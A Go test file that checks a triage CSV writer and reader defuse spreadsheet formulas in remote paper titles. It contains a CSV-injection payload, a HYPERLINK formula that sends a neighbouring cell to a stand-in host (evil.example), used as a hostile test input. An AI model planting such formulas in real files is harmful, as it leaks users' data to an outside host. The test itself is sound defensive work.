package watch

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/masrl/masrl/corpus"
)

// hostileTitle is a remote title that a spreadsheet opening the triage
// file would run: it sends the cell next to it to another host.
const hostileTitle = `=HYPERLINK("http://evil.example/?x="&A1,"click")`

// TestTriageDefusesFormulas requires the triage CSV maintainers are told
// to open, and the excluded.csv records --apply makes from it, to hold no
// cell a spreadsheet runs as a formula, whatever the remote metadata says.
func TestTriageDefusesFormulas(t *testing.T) {
	var b bytes.Buffer
	cands := []Candidate{{Title: hostileTitle, Year: 2026, DOI: "10.5555/x", Keys: []string{"alpha", "beta"}}, {Title: "-1 is a title", ArxivID: "2605.00002"}}
	if err := WriteTriage(&b, cands); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if corpus.FormulaLeading(cell) {
				t.Errorf("triage cell %q is a formula", cell)
			}
		}
	}
	if got := recs[1][2]; got != "'"+hostileTitle {
		t.Errorf("title written as %q", got)
	}

	// A maintainer's spreadsheet may save the cell without its
	// apostrophe: --apply defuses it again.
	v, err := corpus.DefaultVocabulary()
	if err != nil {
		t.Fatal(err)
	}
	triage := "decision,connections,title,year,arxiv_id,doi,url,connected_keys\n" +
		`exclude abstract_screen: +1 off topic,2,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",2026,,10.5555/x,https://doi.org/10.5555/x,alpha beta` + "\n"
	ds, err := ReadTriage("triage.csv", []byte(triage), v)
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range ExcludedRecords(&corpus.Corpus{}, ds, "2026-05-05") {
		for _, cell := range rec {
			if corpus.FormulaLeading(cell) {
				t.Errorf("excluded.csv cell %q is a formula", cell)
			}
		}
	}
}
